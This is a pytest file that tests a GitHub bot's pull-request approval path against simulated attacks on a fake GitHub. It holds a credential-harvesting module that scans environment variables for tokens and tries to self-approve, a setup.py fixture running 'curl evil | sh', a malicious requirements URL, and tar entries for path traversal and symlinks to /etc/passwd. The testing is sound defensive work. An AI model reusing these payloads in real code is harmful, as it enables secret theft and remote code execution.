"""The attacks of issue 10 on the GPU approval path, each run against the fake GitHub:
a token-stealing model, a dispatched fork number, a pull request not by the bot, modules that
shadow pip/graphmend/torch, extra or altered files in a fix pull request, hostile reports."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from approveworld import FIX_BRANCH, fix_pr_world, measure, preflight, submit
from botworld import MEMBER
from fake_github import FakeGitHub
from test_github_approve import BRANCH, CONFIG, GOOD, MODEL, entry, report
from world import NUMBER, REPO

from graphmend_bot.verify.environment import child_environment, secret_variables

TOKENS = {"GITHUB_TOKEN": "ghs_workflow", "INPUT_GITHUB-TOKEN": "ghs_input", "GH_TOKEN": "ghp_cli",
          "ACTIONS_RUNTIME_TOKEN": "runtime", "ACTIONS_ID_TOKEN_REQUEST_TOKEN": "oidc", "MY_API_KEY": "k",
          "DEPLOY_SECRET": "s", "INNOCENT_NAME": "github_pat_11AAAA"}

# A model module that does what a hostile pull request would: look for credentials and GitHub's
# variables, record what it found, and try to approve itself with every token it found.
THIEF = '''\
import json, os, re, urllib.request
_seen = {{k: v for k, v in os.environ.items() if re.search("TOKEN|SECRET|KEY|GITHUB_|ACTIONS_|INPUT_", k)
         or v.startswith(("ghs_", "ghp_", "github_pat_"))}}
with open({seen!r}, "a") as _handle:
    _handle.write(json.dumps(_seen) + "\\n")
for _token in _seen.values():
    _request = urllib.request.Request({url!r}, data=json.dumps({{"event": "APPROVE", "body": "lgtm"}}).encode(),
                                      headers={{"Authorization": "token " + _token}}, method="POST")
    try:
        urllib.request.urlopen(_request, timeout=5)
    except Exception:
        pass
'''


def thief_model(seen: Path, fake: FakeGitHub, body: str) -> str:
    url = f"{fake.base_url}/repos/{REPO}/pulls/{NUMBER}/reviews"
    return THIEF.format(seen=str(seen), url=url) + MODEL.format(body=body)


def reviews_posted(fake: FakeGitHub) -> list[tuple[str, str, int]]:
    return [entry for entry in fake.log if entry[0] == "POST" and entry[1].endswith("/reviews")]


def test_the_secret_rule_and_the_child_environment() -> None:
    environment = {**TOKENS, "PATH": "/bin", "HOME": "/h", "LC_ALL": "C", "CUDA_VISIBLE_DEVICES": "0",
                   "GITHUB_REPOSITORY": "o/r", "INPUT_PATHS": ".", "ACTIONS_CACHE_URL": "u", "PYTHONPATH": "/evil",
                   "EMPTY_TOKEN": "", "LD_PRELOAD": "/evil.so", "GPG_KEY": "A035C8C19219BA821ECEA86B64E628F8D684696D"}
    assert secret_variables(environment) == sorted(TOKENS)
    child = child_environment(environment, {"PYTHONHASHSEED": "0"})
    assert child == {"PATH": "/bin", "HOME": "/h", "LC_ALL": "C", "CUDA_VISIBLE_DEVICES": "0", "PYTHONHASHSEED": "0"}


# Issue 25.4: secrets that no name rule caught.
SECRET_VALUES = {"DATABASE_URL": "postgres://app:hunter2@db.internal:5432/prod", "SSH_AUTH_SOCK": "/tmp/ssh-x/agent.1",
                 "XAUTHORITY": "/home/runner/.Xauthority", "PIP_INDEX_URL": "https://__token__:pypi-AgEI@pypi.example/simple",
                 "CLONE_URL": "https://x-access-token:ghs_abc@github.com/o/r", "DEPLOY_PEM": "-----BEGIN OPENSSH PRIVATE KEY-----\nb3Bl",
                 "DB_PASSPHRASE": "p", "SESSION_COOKIE": "c", "REMOTE": "git@github.com:o/r ghp_0123456789abcdef"}
NOT_SECRET = {"GIT_AUTHOR_NAME": "octocat", "AUTHORS": "x", "PIP_INDEX_URL": "https://pypi.org/simple",
              "REMOTE": "ssh://git@github.com/o/r", "PROXY": "http://proxy:3128/", "KEYBOARD": "us"}


def test_secrets_are_found_by_value_and_by_name_in_any_variable(tmp_path: Path, fake_github: FakeGitHub,
                                                                shared_folder: Path) -> None:
    assert secret_variables(SECRET_VALUES) == sorted(SECRET_VALUES)
    assert secret_variables({**NOT_SECRET, "KEYBOARD": ""}) == []
    assert child_environment({**SECRET_VALUES, "LANG": "C", "PATH": "/bin"}, {}) == {"LANG": "C", "PATH": "/bin"}
    # `approve measure` refuses to start with any of them in its environment, before any code runs.
    seen = shared_folder / "seen.jsonl"
    world = fix_pr_world(tmp_path, fake_github, {"tinynet.py": thief_model(seen, fake_github, BRANCH)},
                         {"tinynet.py": thief_model(seen, fake_github, GOOD)})
    for name in ("DATABASE_URL", "SSH_AUTH_SOCK"):
        refused = measure(world, tmp_path / "verify.json", **{name: SECRET_VALUES[name]})
        assert refused.returncode == 2 and name in refused.stdout, refused.log
    assert not seen.exists()


def test_pull_request_code_finds_no_token_to_approve_with(tmp_path: Path, fake_github: FakeGitHub,
                                                         shared_folder: Path) -> None:
    seen = shared_folder / "seen.jsonl"
    base = {"tinynet.py": thief_model(seen, fake_github, BRANCH), ".graphmend.yml": CONFIG}
    world = fix_pr_world(tmp_path, fake_github, base, {"tinynet.py": thief_model(seen, fake_github, GOOD)})
    report_file = tmp_path / "verify.json"

    # A measure step that was handed a token refuses before any of the pull request's code runs.
    refused = measure(world, report_file, **{"GITHUB_TOKEN": fake_github.token})
    assert refused.returncode == 2 and "::error" in refused.stdout and "GITHUB_TOKEN" in refused.stdout
    assert not seen.exists() and not report_file.exists()

    # Without one, the code runs (both arms) and finds nothing of GitHub's.
    measured = measure(world, report_file)
    assert measured.returncode == 0, measured.log
    assert [json.loads(line) for line in seen.read_text().splitlines()] == [{}, {}]  # imported once per arm

    # `graphmend verify` run by hand with every kind of credential set: its children see none.
    seen.unlink()
    env = {"PATH": os.environ["PATH"], "HOME": str(tmp_path), **TOKENS, "GITHUB_TOKEN": fake_github.token,
           "GITHUB_REPOSITORY": REPO, "INPUT_GITHUB-TOKEN": fake_github.token}
    done = subprocess.run([sys.executable, "-m", "graphmend_bot.cli", "verify", "--against", world.base_sha,
                           "--device", "cpu", "--quiet"], cwd=world.git.root, env=env, capture_output=True,
                          text=True, timeout=600)
    assert done.returncode == 0, done.stderr
    assert seen.read_text().splitlines() and all(json.loads(line) == {} for line in seen.read_text().splitlines())
    assert reviews_posted(fake_github) == [] and fake_github.reviews == []


def test_a_dispatched_fork_number_is_refused_through_the_api(tmp_path: Path, fake_github: FakeGitHub) -> None:
    world = fix_pr_world(tmp_path, fake_github, {"tinynet.py": MODEL.format(body=BRANCH)},
                         {"tinynet.py": MODEL.format(body=GOOD)})
    # The fork names its branch and even its author like the bot's: only the API's head repo counts.
    world.pull["head"]["repo"] = {**world.pull["head"]["repo"], "full_name": "mallory/Hello-World"}
    done = preflight(world)
    assert done.returncode == 2, done.log
    [error] = [line for line in done.stdout.splitlines() if line.startswith("::error")]
    assert "comes from a fork (mallory/Hello-World)" in error
    assert done.outputs == {}  # no head SHA for a checkout or a measurement to use
    assert fake_github.writes() == [] and not any("tarball" in path for _, path, _ in fake_github.log)


@pytest.mark.parametrize("change, reason", [
    ({"user": MEMBER}, "was opened by octocat, not by the bot's App graphmend[bot]"),
    ({"head.ref": "feature"}, "'feature' is not a GraphMend fix branch"),
    ({"state": "closed"}, "is closed: only open pull requests are verified"),
])
def test_preflight_refuses_what_is_not_an_open_fix_pull_request_by_the_bot(
        tmp_path: Path, fake_github: FakeGitHub, change: dict[str, Any], reason: str) -> None:
    world = fix_pr_world(tmp_path, fake_github, {"tinynet.py": MODEL.format(body=BRANCH)},
                         {"tinynet.py": MODEL.format(body=GOOD)})
    for key, value in change.items():
        if key == "head.ref":
            world.pull["head"]["ref"] = value
        else:
            world.pull[key] = value
    done = preflight(world)
    assert done.returncode == 2 and reason in done.stdout, done.log
    assert done.outputs == {}
    # submit applies the same rule, whatever report it is given.
    report_file = tmp_path / "verify.json"
    report_file.write_text(json.dumps(report(entry())))
    late = submit(world, report_file)
    assert late.returncode == 2 and reason in late.stdout and fake_github.reviews == []


SHADOW = "open({marker!r}, 'a').write({name!r} + '\\n')\n"


def test_modules_in_the_checkout_cannot_stand_in_for_graphmend_pip_or_torch(
        tmp_path: Path, fake_github: FakeGitHub) -> None:
    marker = tmp_path / "shadowed.txt"
    shadows = {name: SHADOW.format(marker=str(marker), name=name)
               for name in ("pip/__main__.py", "pip/__init__.py", "graphmend_bot/__init__.py",
                            "graphmend_bot/cli.py", "torch/__init__.py", "json.py")}
    base = {"tinynet.py": MODEL.format(body=BRANCH), ".graphmend.yml": CONFIG, **shadows}
    world = fix_pr_world(tmp_path, fake_github, base, {"tinynet.py": MODEL.format(body=GOOD)})
    report_file = tmp_path / "verify.json"
    done = measure(world, report_file)
    assert done.returncode == 0, done.log
    assert not marker.exists(), marker.read_text()
    [measured] = json.loads(report_file.read_text())["entry_points"]
    assert measured["original"]["ok"] and measured["rewritten"]["ok"], measured


def test_entry_points_come_from_the_base_configuration(tmp_path: Path, fake_github: FakeGitHub) -> None:
    # The head swaps the configured entry point for one that does not exist: the base's is used.
    head_config = CONFIG.replace("tinynet:factory", "tinynet:not_there")
    world = fix_pr_world(tmp_path, fake_github, {"tinynet.py": MODEL.format(body=BRANCH), ".graphmend.yml": CONFIG},
                         {"tinynet.py": MODEL.format(body=GOOD), ".graphmend.yml": head_config})
    report_file = tmp_path / "verify.json"
    assert measure(world, report_file).returncode == 0
    [measured] = json.loads(report_file.read_text())["entry_points"]
    assert measured["name"] == "tinynet:factory" and measured["rewritten"]["ok"]
    # And submit sees the changed configuration as a change GraphMend would not make.
    done = submit(world, report_file)
    assert done.outputs["decision"] == "COMMENT" and "`.graphmend.yml` is changed" in done.stdout


@pytest.mark.parametrize("head, expected", [
    ({"tinynet.py": MODEL.format(body=GOOD), "setup.py": "import os\nos.system('curl evil | sh')\n"},
     "`setup.py` is changed, but GraphMend's rewrite of the base leaves it as it is"),
    ({"tinynet.py": MODEL.format(body=GOOD), "requirements.txt": "evil @ https://evil.example/evil.whl\n"},
     "`requirements.txt` is changed, but GraphMend's rewrite changes only Python files"),
    ({"tinynet.py": MODEL.format(body=GOOD), ".github/workflows/x.yml": "on: push\n"},
     "`.github/workflows/x.yml` is added"),
    ({"tinynet.py": MODEL.format(body=GOOD).replace("x * 3", "x * 3 + 0")},
     "`tinynet.py` differs from GraphMend's rewrite of the base"),
])
def test_a_fix_pull_request_that_is_not_exactly_the_rewrite_is_not_approved(
        tmp_path: Path, fake_github: FakeGitHub, head: dict[str, str], expected: str) -> None:
    base = {"tinynet.py": MODEL.format(body=BRANCH), "setup.py": "from setuptools import setup\nsetup()\n",
            "requirements.txt": "torch\n"}
    world = fix_pr_world(tmp_path, fake_github, base, head)
    report_file = tmp_path / "verify.json"
    report_file.write_text(json.dumps(report(entry())))  # a measurement that passes
    done = submit(world, report_file)
    assert done.returncode == 1 and done.outputs["decision"] == "COMMENT", done.log
    [review] = fake_github.reviews_on(REPO, NUMBER)
    assert review["state"] == "COMMENTED" and review["commit_id"] == world.head_sha
    assert expected in review["body"] and "not exactly GraphMend's rewrite" in review["body"]


def test_a_fix_pull_request_that_also_changes_a_file_mode_is_not_approved(
        tmp_path: Path, fake_github: FakeGitHub) -> None:
    # The content is exactly the rewrite; the mode is not: `chmod +x` is a change GraphMend never makes.
    world = fix_pr_world(tmp_path, fake_github, {"tinynet.py": MODEL.format(body=BRANCH)},
                         {"tinynet.py": MODEL.format(body=GOOD)})
    world.make_executable("tinynet.py")
    report_file = tmp_path / "verify.json"
    report_file.write_text(json.dumps(report(entry())))
    done = submit(world, report_file)
    assert done.returncode == 1 and done.outputs["decision"] == "COMMENT", done.log
    [review] = fake_github.reviews_on(REPO, NUMBER)
    assert "`tinynet.py` changes its mode from 100644 to 100755" in review["body"], review["body"]


def test_the_exact_rewrite_with_a_passing_report_is_approved(tmp_path: Path, fake_github: FakeGitHub) -> None:
    world = fix_pr_world(tmp_path, fake_github, {"tinynet.py": MODEL.format(body=BRANCH), "setup.py": "setup()\n"},
                         {"tinynet.py": MODEL.format(body=GOOD)})
    report_file = tmp_path / "verify.json"
    report_file.write_text(json.dumps(report(entry())))
    done = submit(world, report_file)
    assert done.returncode == 0 and done.outputs == {"decision": "APPROVE", "breaks-removed": "1"}, done.log
    [review] = fake_github.reviews_on(REPO, NUMBER)
    assert review["state"] == "APPROVED" and review["commit_id"] == world.head_sha
    assert world.pull["head"]["ref"] == FIX_BRANCH


def test_submit_refuses_when_the_head_moved(tmp_path: Path, fake_github: FakeGitHub) -> None:
    world = fix_pr_world(tmp_path, fake_github, {"tinynet.py": MODEL.format(body=BRANCH)},
                         {"tinynet.py": MODEL.format(body=GOOD)})
    measured_sha = world.head_sha
    world.push({"tinynet.py": MODEL.format(body=GOOD) + "\nimport os\n"})
    report_file = tmp_path / "verify.json"
    report_file.write_text(json.dumps(report(entry())))
    done = submit(world, report_file, measured_sha)
    assert done.returncode == 2 and f"moved from the measured {measured_sha[:7]}" in done.stdout
    assert fake_github.reviews == []


HOSTILE_REPORTS: dict[str, bytes] = {
    "not JSON": b"{\"entry_points\": [",
    "not UTF-8": b"\xff\xfe{}",
    "a list": b"[]",
    "deeply nested": b"[" * 100_000 + b"]" * 100_000,
    "entry points not a list": json.dumps({**report(), "entry_points": "all good"}).encode(),
    "an arm that is a list": json.dumps(report(entry() | {"original": [1]})).encode(),
    "a count that is text": json.dumps(report(entry(rewritten={"graph_count": "0"}))).encode(),
    "a count that is a bool": json.dumps(report(entry(rewritten={"graph_break_count": False}))).encode(),
    "NaN timings": json.dumps(report(entry(original={"cold_start_s": float("nan")}))).encode(),
    "a label that is not text": json.dumps({**report(entry()), "original": {"label": {"$": 1}}}).encode(),
    "a huge name": json.dumps(report(entry(name="x" * 100_000))).encode(),
    "too large": b" " * (5 * 1024 * 1024) + b"{}",
}


@pytest.mark.parametrize("name", sorted(HOSTILE_REPORTS))
def test_a_malformed_or_hostile_report_is_a_clear_refusal(tmp_path: Path, fake_github: FakeGitHub, name: str) -> None:
    world = fix_pr_world(tmp_path, fake_github, {"tinynet.py": MODEL.format(body=BRANCH)},
                         {"tinynet.py": MODEL.format(body=GOOD)})
    report_file = tmp_path / "verify.json"
    report_file.write_bytes(HOSTILE_REPORTS[name])
    done = submit(world, report_file)
    assert done.returncode == 2, done.log
    [error] = [line for line in done.stdout.splitlines() if line.startswith("::error")]
    assert "verify report" in error and "Traceback" not in done.log and "internal error" not in done.log
    assert fake_github.reviews == [] and fake_github.writes() == []


def test_only_plain_source_files_come_out_of_the_base_archive(tmp_path: Path) -> None:
    import io
    import tarfile

    from graphmend_bot.github.approval import base_tree

    archive = tmp_path / "base.tar.gz"
    with tarfile.open(archive, "w:gz") as tar:
        def add(name: str, data: bytes = b"x = 1\n", kind: bytes = tarfile.REGTYPE, link: str = "") -> None:
            info = tarfile.TarInfo(name)
            info.type, info.linkname, info.size = kind, link, len(data) if kind == tarfile.REGTYPE else 0
            tar.addfile(info, io.BytesIO(data) if kind == tarfile.REGTYPE else None)
        add("repo-abc/pkg/model.py")
        add("repo-abc/.graphmend.yml", b"select: [GM1]\n")
        add("repo-abc/README.md")
        add("repo-abc/../escape.py")
        add("/abs.py")
        add("repo-abc/link.py", kind=tarfile.SYMTYPE, link="/etc/passwd")
        add("repo-abc/hard.py", kind=tarfile.LNKTYPE, link="repo-abc/pkg/model.py")
        add("repo-abc/fifo.py", kind=tarfile.FIFOTYPE)
    root = tmp_path / "out"
    root.mkdir()
    base_tree._extract_sources(archive, root)
    written = sorted(p.relative_to(tmp_path).as_posix() for p in tmp_path.rglob("*") if p.is_file() or p.is_symlink())
    assert written == ["base.tar.gz", "out/.graphmend.yml", "out/pkg/model.py"]


def test_dynamos_count_for_an_arm_without_a_graph_is_a_valid_report() -> None:
    """explain() says -1 breaks when it captured no graph; anything below, or not an integer, is not."""
    from graphmend_bot.github.approval.report import report_problems

    assert report_problems(report(entry(rewritten={"graph_count": 0, "graph_break_count": -1}))) == []
    for bad in (-2, -1.0, True):
        problems = report_problems(report(entry(rewritten={"graph_break_count": bad})))
        assert problems == ["entry point 0: `rewritten.graph_break_count` has the wrong type or size"], bad
